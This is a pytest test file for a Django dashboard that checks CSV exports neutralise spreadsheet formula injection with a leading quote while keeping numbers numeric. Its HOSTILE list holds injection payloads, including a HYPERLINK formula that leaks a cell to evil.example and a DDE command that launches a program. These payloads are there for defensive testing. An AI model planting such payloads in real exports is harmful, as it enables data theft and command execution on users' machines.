"""CSV injection: text a spreadsheet would run as a formula is neutralised with a leading ' in every export
(page tables and the API), while numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from dashboard.api.csv import CsvRenderer, stream
from dashboard.csv_safety import spreadsheet_safe
from dashboard.recommend import engine
from dashboard.recommend.models import Recommendation
from dashboard.teams.models import ApiToken
from dashboard.web.tables import Column, Table
from tests.api.conftest import bearer
from tests.web import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
]


@pytest.fixture
def hostile_fleet(teams):
    prod = factories.account(teams[0], "111122223333", "prod")
    endpoints = [
        factories.endpoint(
            prod,
            f"=evil-{i}",
            instance_type="ml.p3.2xlarge",
            invocations=0,
            gpu_util_pct=0.5,
            hours=8 * 24,
            tags={"team": value},
        )
        for i, value in enumerate(HOSTILE)
    ]
    factories.estimate()
    engine.recompute(teams[0])
    return endpoints


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_rule_neutralises_text_only():
    assert [spreadsheet_safe(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert spreadsheet_safe("ranker") == "ranker" and spreadsheet_safe("") == ""
    assert spreadsheet_safe(-3.5) == -3.5 and spreadsheet_safe(-2) == -2 and spreadsheet_safe(None) is None


def test_a_page_csv_neutralises_hostile_tags_and_names_and_keeps_numbers(client, alice, hostile_fleet):
    client.force_login(alice)
    download = client.get(reverse("endpoints"), {"period": "7d", "csv": "endpoints"}).content.decode()
    rows = list(csv.DictReader(io.StringIO(download)))
    assert sorted(row["Team (tag)"] for row in rows) == sorted("'" + value for value in HOSTILE)
    assert all(row["Endpoint"].startswith("'=evil-") for row in rows)
    assert all(float(row["CPU (%)"]) == pytest.approx(20.0) for row in rows)  # numbers untouched


def test_a_page_table_keeps_a_negative_number_numeric_and_neutralises_negative_looking_text():
    table = Table("t", "T", [Column("change", "Change", 1), Column("note", "Note")], [{"change": -3.5, "note": "-3.5"}])
    assert table.csv().splitlines()[1] == "-3.5,'-3.5"


def test_an_api_csv_neutralises_tags_names_and_a_dismissed_reason(client, alice, teams, hostile_fleet):
    _, plaintext = ApiToken.issue(alice, teams[0], "csv", ApiToken.Access.WRITE)
    rec = Recommendation.objects.filter(team=teams[0]).first()
    reason = '=HYPERLINK("http://evil.example","more")'
    response = client.patch(
        f"/api/v1/recommendations/{rec.pk}/",
        {"status": "dismissed", "dismissed_reason": reason},
        content_type="application/json",
        **bearer(plaintext),
    )
    assert response.status_code == 200 and response.json()["dismissed_reason"] == reason  # JSON stays as typed
    recs = b"".join(
        client.get(
            "/api/v1/recommendations/", {"format": "csv", "status": "dismissed"}, **bearer(plaintext)
        ).streaming_content
    ).decode()
    assert [row["dismissed_reason"] for row in csv.DictReader(io.StringIO(recs))] == ["'" + reason]
    endpoints = b"".join(
        client.get("/api/v1/endpoints/", {"format": "csv"}, **bearer(plaintext)).streaming_content
    ).decode()
    names = [row["name"] for row in csv.DictReader(io.StringIO(endpoints))]
    assert sorted(names) == sorted(f"'=evil-{i}" for i in range(len(HOSTILE)))
    grouped = b"".join(
        client.get(
            "/api/v1/emissions/", {"format": "csv", "group_by": "tag:team"}, **bearer(plaintext)
        ).streaming_content
    ).decode()
    assert {row["group"] for row in csv.DictReader(io.StringIO(grouped))} == {"'" + value for value in HOSTILE}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in csv_cells(recs + endpoints + grouped))


def test_api_csv_writers_keep_negative_numbers_numeric():
    rows = [{"delta_kg": -3.5, "label": "-3.5", "missing": None}]
    assert CsvRenderer().render(rows).splitlines() == ["delta_kg,label,missing", "-3.5,'-3.5,"]
    streamed = b"".join(stream(rows, ["delta_kg", "label", "missing"], "x").streaming_content).decode()
    assert streamed.splitlines()[1] == "-3.5,'-3.5,"
